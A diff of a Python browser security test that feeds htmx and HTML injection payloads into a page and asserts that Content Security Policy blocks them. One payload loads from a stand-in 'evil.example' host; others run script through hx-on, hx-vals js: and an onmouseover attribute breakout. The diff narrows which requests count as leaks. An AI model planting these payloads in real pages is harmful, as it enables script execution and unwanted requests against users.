@@ -41,7 +41,7 @@ _ELEMENTS: Final = (
     '<div hx-get="https://evil.example/" hx-trigger="load"></div>',
     f'<div hx-on:click="{RUNS}" hx-trigger="load"></div>',
     f'<div hx-vals=\'js:{{a:{RUNS}}}\' hx-get="/ui/" hx-trigger="load"></div>',
-    '<div hx-sse:connect="/ui/events"></div>',
+    '<div hx-sse:connect="/ui/events?evil"></div>',
     '<div data-hx-post="/ui/leave" data-hx-trigger="load"></div>',
     '<a hx-boost="true" href="/ui/leave">x</a>',
     f" onmouseover={RUNS} x=",
@@ -136,7 +136,7 @@ async def test_even_where_escaping_fails_nothing_runs_and_nothing_is_sent(
         assert await tab.evaluate("!!document.querySelector('[hx-post], .said svg, .said iframe')"), "it got in"
         await tab.until("htmx.version.length > 0")
         assert await tab.evaluate("typeof window.canary") == "undefined"
-        assert [one for one in tab.requests if "leave" in one or "evil" in one or "events" in one] == []
+        assert [one for one in tab.requests if "leave" in one or "evil" in one] == []
         assert any("Content Security Policy" in one or "CSP" in one for one in tab.troubles)
         await tab.open(f"{server.url}/ui/audit")
         assert "Sign in" not in await tab.text()
